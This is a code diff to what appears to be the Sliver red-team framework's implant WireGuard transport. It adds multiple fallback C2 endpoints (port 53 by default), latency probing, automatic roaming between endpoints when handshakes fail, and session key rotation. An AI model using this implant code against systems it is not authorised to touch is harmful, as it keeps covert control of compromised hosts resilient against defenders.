@@ -25,12 +25,15 @@ package wireguard
 import (
 	"bufio"
 	"bytes"
+	"context"
 	"encoding/binary"
 	"errors"
 	"fmt"
 	"io"
 	"net"
 	"net/netip"
+	"net/url"
+	"sort"
 	"strconv"
 	"strings"
 	"time"
@@ -50,8 +53,9 @@ import (
 
 var (
 	serverTunIP = "100.64.0.1" // Don't let user configure this for now
-	tunnelNet   *netstack.Net
-	tunAddress  string
+	tunnelNet    *netstack.Net
+	tunnelDevice *device.Device
+	tunAddress   string
 
 	wgImplantPrivKey  = `{{.Config.WGImplantPrivKey}}`
 	wgServerPubKey    = `{{.Config.WGServerPubKey}}`
@@ -64,6 +68,19 @@ var (
 
 	PingInterval = 2 * time.Minute
 	failedConn   = 0
+
+	// RoamInterval - How often the tunnel's last handshake is checked
+	RoamInterval = 15 * time.Second
+
+	// Handshakes are renewed every 2 minutes while there's traffic, so an endpoint
+	// that hasn't completed one in longer than this is unreachable
+	roamAfter         = 150 * time.Second
+	keepaliveInterval = 25 // Seconds, only while roaming
+
+	probeTimeout     = 5 * time.Second
+	probedKey        string
+	probedEndpoints  []string
+	keyRotationDelay = 2 * time.Second
 )
 
 // GetTNet - Get the netstack Net object
@@ -156,8 +173,8 @@ func ReadEnvelope(connection net.Conn) (*pb.Envelope, error) {
 }
 
 // getSessKeys - Connect to the wireguard server and retrieve session specific keys and IP
-func getSessKeys(address string, port uint16) error {
-	_, dev, tNet, err := bringUpWGInterface(address, port, wgImplantPrivKey, wgServerPubKey, wgPeerTunIP)
+func getSessKeys(endpoint string) error {
+	_, dev, tNet, err := bringUpWGInterface(endpoint, wgImplantPrivKey, wgServerPubKey, wgPeerTunIP)
 	if err != nil {
 		return err
 	}
@@ -173,6 +190,7 @@ func getSessKeys(address string, port uint16) error {
 		// {{if .Config.Debug}}
 		log.Printf("Unable to connect to wg key exchange listener: %v", err)
 		// {{end}}
+		dev.Down()
 		return err
 	}
 
@@ -194,14 +212,66 @@ func getSessKeys(address string, port uint16) error {
 	return nil
 }
 
-// WGConnect - Get a wg connection or die trying
-func WGConnect(address string, port uint16) (net.Conn, *device.Device, error) {
+// Endpoints - The c2's endpoint followed by any other endpoints of the same server,
+// e.g. wg://1.2.3.4:53?endpoint=5.6.7.8:53&endpoint=example.com, hostnames are
+// resolved and the port defaults to 53
+func Endpoints(uri *url.URL) ([]string, error) {
+	hosts := append([]string{uri.Host}, uri.Query()["endpoint"]...)
+	endpoints := []string{}
+	for _, host := range hosts {
+		hostname, port, err := net.SplitHostPort(host)
+		if err != nil {
+			hostname, port = strings.Trim(host, "[]"), "53"
+		}
+		// Attempt to resolve the hostname in case we received a domain name and
+		// not an IP address, net.LookupHost() will still work with an IP address
+		addrs, err := net.LookupHost(hostname)
+		if err != nil || len(addrs) == 0 {
+			// {{if .Config.Debug}}
+			log.Printf("Failed to resolve wg endpoint %s: %v", host, err)
+			// {{end}}
+			continue
+		}
+		endpoints = append(endpoints, net.JoinHostPort(addrs[0], port))
+	}
+	if len(endpoints) == 0 {
+		return nil, errors.New("{{if .Config.Debug}}Invalid address{{end}}")
+	}
+	return endpoints, nil
+}
+
+// WGConnect - Get a wg connection or die trying, the endpoints are tried in order
+// of their latency (see ProbeEndpoints). Returns the endpoints in the order to roam
+// to them, starting with the connected endpoint.
+func WGConnect(endpoints []string) (net.Conn, *device.Device, []string, error) {
 	if wgSessPrivKey == "" || failedConn > 2 {
-		getSessKeys(address, port)
+		for _, endpoint := range endpoints {
+			if getSessKeys(endpoint) == nil {
+				break
+			}
+		}
+	}
+
+	key := strings.Join(endpoints, " ")
+	if probedKey != key || 0 < failedConn {
+		probedKey, probedEndpoints = key, ProbeEndpoints(endpoints)
 	}
+	err := errors.New("{{if .Config.Debug}}No wg endpoints{{end}}")
+	for index, endpoint := range probedEndpoints {
+		var connection net.Conn
+		var dev *device.Device
+		connection, dev, err = connectEndpoint(endpoint)
+		if err == nil {
+			roaming := append([]string{}, probedEndpoints[index:]...)
+			return connection, dev, append(roaming, probedEndpoints[:index]...), nil
+		}
+	}
+	return nil, nil, nil, err
+}
 
-	// Bring up actual wireguard connection using retrieved keys and IP
-	_, dev, tNet, err := bringUpWGInterface(address, port, wgSessPrivKey, wgSessPubKey, tunAddress)
+// connectEndpoint - Bring up the wireguard connection using the session's keys and IP
+func connectEndpoint(endpoint string) (net.Conn, *device.Device, error) {
+	_, dev, tNet, err := bringUpWGInterface(endpoint, wgSessPrivKey, wgSessPubKey, tunAddress)
 	if err != nil {
 		failedConn++
 		return nil, nil, err
@@ -210,23 +280,162 @@ func WGConnect(address string, port uint16) (net.Conn, *device.Device, error) {
 	connection, err := tNet.Dial("tcp", fmt.Sprintf("%s:%d", serverTunIP, wgTcpCommsPort))
 	if err != nil {
 		// {{if .Config.Debug}}
-		log.Printf("Unable to connect to sliver listener: %v", err)
+		log.Printf("Unable to connect to sliver listener via %s: %v", endpoint, err)
 		// {{end}}
+		dev.Close()
 		failedConn++
 		return nil, nil, err
 	}
 
 	// {{if .Config.Debug}}
-	log.Printf("Successfully connected to sliver listener")
+	log.Printf("Successfully connected to sliver listener via %s", endpoint)
 	// {{end}}
 	failedConn = 0
 	tunnelNet = tNet
+	tunnelDevice = dev
 	return connection, dev, nil
 }
 
+// ProbeEndpoints - Order the endpoints by the time it takes to connect to the
+// server through each of them, endpoints that can't be reached are tried last
+func ProbeEndpoints(endpoints []string) []string {
+	if len(endpoints) < 2 {
+		return endpoints
+	}
+	type probe struct {
+		endpoint string
+		rtt      time.Duration
+	}
+	probes := []probe{}
+	for _, endpoint := range endpoints {
+		rtt, err := probeEndpoint(endpoint)
+		if err != nil {
+			// {{if .Config.Debug}}
+			log.Printf("Failed to probe wg endpoint %s: %s", endpoint, err)
+			// {{end}}
+			rtt = probeTimeout
+		}
+		// {{if .Config.Debug}}
+		log.Printf("wg endpoint %s rtt %s", endpoint, rtt)
+		// {{end}}
+		probes = append(probes, probe{endpoint: endpoint, rtt: rtt})
+	}
+	sort.SliceStable(probes, func(i, j int) bool {
+		return probes[i].rtt < probes[j].rtt
+	})
+	ordered := []string{}
+	for _, probe := range probes {
+		ordered = append(ordered, probe.endpoint)
+	}
+	return ordered
+}
+
+// probeEndpoint - Time a handshake and tcp connection to the server through the
+// endpoint with a throwaway device, it's closed without sending anything
+func probeEndpoint(endpoint string) (time.Duration, error) {
+	_, dev, tNet, err := bringUpWGInterface(endpoint, wgSessPrivKey, wgSessPubKey, tunAddress)
+	if err != nil {
+		return 0, err
+	}
+	defer dev.Close()
+	ctx, cancel := context.WithTimeout(context.Background(), probeTimeout)
+	defer cancel()
+	started := time.Now()
+	connection, err := tNet.DialContextTCP(ctx, &net.TCPAddr{IP: net.ParseIP(serverTunIP), Port: wgTcpCommsPort})
+	if err != nil {
+		return 0, err
+	}
+	rtt := time.Since(started)
+	connection.Close()
+	return rtt, nil
+}
+
+// Roam - Move the tunnel to the next endpoint when the current one stops completing
+// handshakes, connections through the tunnel survive since its address doesn't
+// change and the server follows the peer to its new endpoint. Returns when done
+// is closed.
+func Roam(dev *device.Device, endpoints []string, done <-chan struct{}) {
+	if len(endpoints) < 2 {
+		return
+	}
+	// Keepalives make sure handshakes are renewed while the session is idle
+	err := setServerPeer(dev, fmt.Sprintf("persistent_keepalive_interval=%d\n", keepaliveInterval))
+	if err != nil {
+		// {{if .Config.Debug}}
+		log.Printf("Failed to enable wg keepalives: %s", err)
+		// {{end}}
+		return
+	}
+	current := 0
+	roamed := time.Now()
+	for {
+		select {
+		case <-done:
+			return
+		case <-time.After(RoamInterval):
+		}
+		last := lastHandshake(dev)
+		if last.Before(roamed) {
+			last = roamed
+		}
+		if time.Since(last) < roamAfter {
+			continue
+		}
+		current = (current + 1) % len(endpoints)
+		// {{if .Config.Debug}}
+		log.Printf("No wg handshake since %s, roaming to %s", last, endpoints[current])
+		// {{end}}
+		setServerPeer(dev, fmt.Sprintf("endpoint=%s\n", endpoints[current]))
+		roamed = time.Now()
+	}
+}
+
+// RotateKeys - Switch to new session keys from the server, the current device is
+// switched after a delay so the acknowledgment is sent with the old keys first
+func RotateKeys(privateKey string) error {
+	if len(privateKey) != 64 {
+		return errors.New("{{if .Config.Debug}}Invalid wg private key{{end}}")
+	}
+	wgSessPrivKey = privateKey
+	dev := tunnelDevice
+	if dev != nil {
+		go func() {
+			time.Sleep(keyRotationDelay)
+			err := dev.IpcSet(fmt.Sprintf("private_key=%s\n", privateKey))
+			if err != nil {
+				// {{if .Config.Debug}}
+				log.Printf("Failed to rotate wg keys: %s", err)
+				// {{end}}
+			}
+		}()
+	}
+	return nil
+}
+
+func setServerPeer(dev *device.Device, config string) error {
+	return dev.IpcSet(fmt.Sprintf("public_key=%s\nupdate_only=true\n%s", wgSessPubKey, config))
+}
+
+// lastHandshake - When the device last completed a handshake with the server
+func lastHandshake(dev *device.Device) time.Time {
+	config, err := dev.IpcGet()
+	if err != nil {
+		return time.Time{}
+	}
+	for _, line := range strings.Split(config, "\n") {
+		if strings.HasPrefix(line, "last_handshake_time_sec=") {
+			secs, _ := strconv.ParseInt(strings.TrimPrefix(line, "last_handshake_time_sec="), 10, 64)
+			if 0 < secs {
+				return time.Unix(secs, 0)
+			}
+		}
+	}
+	return time.Time{}
+}
+
 // bringUpWGInterface - First creates an inet.af network stack.
 // then creates a Wireguard device/interface and applies configuration
-func bringUpWGInterface(address string, port uint16, implantPrivKey string, serverPubKey string, netstackTunIP string) (tun.Device, *device.Device, *netstack.Net, error) {
+func bringUpWGInterface(endpoint string, implantPrivKey string, serverPubKey string, netstackTunIP string) (tun.Device, *device.Device, *netstack.Net, error) {
 	if netstackTunIP == "" {
 		err := errors.New("[wireguard] Cannot connect to empty IP address")
 		return nil, nil, nil, err
@@ -251,7 +460,7 @@ func bringUpWGInterface(address string, port uint16, implantPrivKey string, serv
 	wgConf := bytes.NewBuffer(nil)
 	fmt.Fprintf(wgConf, "private_key=%s\n", implantPrivKey)
 	fmt.Fprintf(wgConf, "public_key=%s\n", serverPubKey)
-	fmt.Fprintf(wgConf, "endpoint=%s:%d\n", address, port)
+	fmt.Fprintf(wgConf, "endpoint=%s\n", endpoint)
 	fmt.Fprintf(wgConf, "allowed_ip=%s/0\n", "0.0.0.0")
 
 	// {{if .Config.Debug}}